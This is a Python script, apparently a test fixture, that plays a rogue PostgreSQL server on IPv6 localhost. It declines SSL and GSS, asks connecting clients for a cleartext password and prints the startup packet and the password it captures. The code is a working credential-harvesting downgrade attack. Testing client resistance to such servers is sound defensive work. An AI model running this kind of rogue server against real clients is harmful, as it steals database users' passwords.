"""Run as the attacker: on [::1]:PORT, ask each client for its password in clear (what a
PostgreSQL server may ask) and print what it sends: the startup packet, then the password.

    python3 serve_listen_localhost_ipv6_mallory.py PORT SECONDS
"""

import socket
import struct
import sys

listener = socket.socket(socket.AF_INET6)
listener.bind(("::1", int(sys.argv[1])))
listener.listen()
listener.settimeout(float(sys.argv[2]))
print("listening on [::1]:" + sys.argv[1], flush=True)
while True:
    try:
        connection, _ = listener.accept()
    except OSError:
        break
    with connection:
        connection.settimeout(5)
        try:
            while True:
                length = struct.unpack("!i", connection.recv(4))[0]
                body = connection.recv(length - 4)
                if length == 8 and struct.unpack("!i", body)[0] in (80877103, 80877104):
                    connection.sendall(b"N")  # no SSL, no GSS
                    continue
                break
            print("startup:", body.replace(b"\0", b" ").decode("latin-1"), flush=True)
            connection.sendall(b"R" + struct.pack("!ii", 8, 3))  # cleartext password, please
            print("then:", connection.recv(4096), flush=True)
        except (OSError, struct.error) as exc:
            print("client left:", exc, flush=True)
